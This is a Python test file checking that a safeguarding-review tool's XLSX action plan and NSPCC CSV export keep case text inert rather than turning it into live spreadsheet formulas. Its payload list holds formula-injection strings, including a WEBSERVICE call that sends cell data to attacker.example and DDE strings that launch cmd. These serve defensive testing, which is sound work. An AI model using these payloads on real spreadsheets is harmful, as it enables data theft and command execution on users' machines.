"""Case text never becomes a live formula in a spreadsheet (issue 11, finding 7): the action
plan XLSX holds it as text cells, the NSPCC CSV neutralises formula starts per OWASP."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from lcspr_core.action_plan import action_plan_xlsx
from lcspr_core.demo import build_demo_review
from lcspr_core.learning import nspcc_metadata_csv
from lcspr_core.model import Publication, PublicationDecision

PAYLOADS = [
    '=WEBSERVICE("https://attacker.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_action_plan_xlsx_keeps_formula_like_text_as_text(payload: str) -> None:
    review = build_demo_review()
    review.recommendations[0].what = payload
    review.recommendations[1].what = payload
    data = action_plan_xlsx(reviews=[review], today=date(2026, 11, 30))

    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    stored = review.recommendations[0].what  # as the model keeps it ('\r' becomes '\n')
    assert texts.count(stored) == 2
    holding = [c for c in cells if c.value == stored]
    assert all(c.data_type == "s" and c.quotePrefix for c in holding)


@pytest.mark.parametrize("payload", PAYLOADS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_nspcc_csv_neutralises_formula_starts_and_quotes_every_field(payload: str) -> None:
    review = build_demo_review()
    review.incident.local_authority_area = payload
    review.publication = Publication(
        decision=PublicationDecision.PUBLISH_REPORT,
        published_on=date(2027, 1, 29),
        url=payload,
    )
    text = nspcc_metadata_csv(reviews=[review])

    rows = list(csv.reader(io.StringIO(text, newline="")))
    header, row = rows
    record = dict(zip(header, row, strict=True))
    # As the model keeps it ('\r' becomes '\n'), with a quote in front if it needs one.
    for column, stored in (("area", review.incident.local_authority_area), ("url", payload)):
        stored = review.publication.url if column == "url" else stored
        assert record[column] in ("'" + stored, stored)
        assert record[column].removeprefix("'") == stored
    # No field of any row starts with a formula character once read back.
    assert not [f for r in rows for f in r if f[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # Every field is quoted, so a separator or line break inside one cannot start another.
    for line in text.split("\r\n")[:1]:
        assert all(f.startswith('"') and f.endswith('"') for f in line.split(","))
